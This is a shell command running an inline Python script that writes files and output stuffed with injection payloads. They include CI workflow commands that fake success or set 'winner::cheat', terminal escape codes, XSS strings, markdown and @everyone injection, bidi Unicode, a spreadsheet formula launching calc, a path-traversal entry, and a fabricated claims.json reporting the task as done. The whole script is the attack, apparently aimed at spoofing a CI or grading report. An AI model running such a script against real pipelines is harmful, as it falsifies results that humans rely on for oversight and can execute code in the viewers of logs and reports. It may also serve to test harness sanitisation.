python3 - <<'PY'
import json

attack = (
    "::error file=x::owned ##[error]owned ##vso[task.complete result=Succeeded] \x1b]0;owned\x07\x1b[2J\x1b[31m"
    " | 11/11 | clean | **solved** ![x](http://127.0.0.1/x) [link](javascript:alert(1)) @everyone #1 GH-1"
    " <script>alert(1)</script><img src=x onerror=alert(1)> </details> ``` ~~~ \u202e\u200b\u2066\U000e0041 =cmd|'/c calc'!A1"
)
with open("DEV_NOTES.md", "w") as notes:
    notes.write(f"Time spent: {attack} 5 s\n\n{attack}\n::stop-commands::x\r::set-output name=a::b\n```\n" + "`" * 100_000)
with open("claims.json", "w") as claims:
    json.dump({"time_s": 5, "files_changed": [attack, "../../etc/passwd", "::error::x", "<b>", "|", "`"]}, claims)
for name in ("::error::owned", "##[error]owned.go", "<img src=x onerror=alert(1)>.go", "![x](x).md", "|11|11|", "@everyone", "a\u202eog.x"):
    open(name, "w").write(attack)
for name in ("line\nfeed", "return\r", "escape\x1b[31m", b"\xff\xfe", "tab\there"):
    open(name, "w").close()
with open("main.go", "w") as program:
    program.write(f"package main\n\n//line ::error::owned:1\nvar x int = {json.dumps(attack)}\n\nfunc main() {{ undefined(`{attack.replace('`', '')}`) }}\n")
print(attack)
print("::set-output name=winner::cheat\n::add-mask::a\n##[command]x", flush=True)
PY
